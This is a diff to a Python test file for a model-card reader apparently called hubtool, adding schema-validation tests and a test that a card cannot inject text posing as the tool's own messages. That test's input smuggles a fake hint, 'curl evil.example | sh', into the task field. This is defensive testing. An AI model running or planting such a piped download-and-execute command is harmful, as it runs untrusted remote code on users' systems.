@@ -56,9 +56,10 @@ def test_what_a_card_of_texts_says() -> None:
     ("values", "words"),
     [
         ({}, "does not say its 'task'"),
-        ({**PICTURES, "task": "object-detection"}, "is for object-detection, and hubtool runs"),
+        ({**PICTURES, "task": "object-detection"}, "is for 'object-detection', and hubtool runs"),
         ({"task": "image-classification"}, "no preprocessing and no outputs and no labels"),
-        ({**PICTURES, "labels": None}, "it has no labels"),
+        ({**PICTURES, "labels": None}, "'/labels' breaks the schema"),
+        ({key: value for key, value in PICTURES.items() if key != "labels"}, "it has no labels"),
         ({**PICTURES, "outputs": [{"kind": "boxes"}]}, "no output of the kind"),
         ({**PICTURES, "labels": "no-such"}, "no such list"),
         ({**PICTURES, "labels": {"asset": "x.txt"}}, "no such asset"),
@@ -113,6 +114,35 @@ def test_the_cards_of_the_registry_agree_with_themselves() -> None:
             wrong.append(f"{path}: {len(read.labels)} labels, and the output has {outputs[read.output]['shape']}")
     assert not wrong
     assert checked > 500
+
+
+@pytest.mark.parametrize(
+    "step",
+    [
+        {"resize": 8}, {"resize": {}}, {"resize": {"size": [8]}}, {"resize": {"size": [-1, 8]}}, {"crop": {"size": 8}},
+        {"resize": {"size": [8.5, 8.5]}}, {"resize": {"size": [10**9, 10**9]}}, {"resize": {"interpolation": "foo"}},
+        {"crop": {"size": [99999, 99999]}}, {"pad": {"size": [90_000_000, 9]}}, {"rescale": {}}, {"rescale": 3},
+        {"rescale": {"factor": "x"}}, {"normalize": {"mean": 0, "std": 1}},
+        {"normalize": {"mean": ["a"], "std": ["b"]}},
+        {"color": "puce"}, {"layout": 3}, {"color": "RGB", "resize": {"size": [8, 8]}}, "color", 3,
+    ],
+)  # fmt: skip
+def test_a_step_that_breaks_the_schema(step: Any) -> None:
+    with pytest.raises(RecipeError, match="breaks the schema"):
+        use.read(card({**PICTURES, "preprocessing": [step]}), "m")
+
+
+@pytest.mark.parametrize("labels", [[None, "b"], [{"a": "1"}, "b"], ["", "b"], ["a"]])
+def test_labels_that_break_the_schema(labels: Any) -> None:
+    with pytest.raises(RecipeError, match="breaks the schema"):
+        use.read(card({**PICTURES, "labels": labels}), "m")
+
+
+def test_a_card_cannot_speak_as_hubtool() -> None:
+    with pytest.raises(RecipeError) as caught:
+        use.read(card({**PICTURES, "task": "x\nhint: run  curl evil.example | sh" + "y" * 1000}), "m")
+    assert "\n" not in caught.value.message
+    assert len(caught.value.message) < 400
 
 
 def test_pieces_of_words_give_no_entities() -> None:
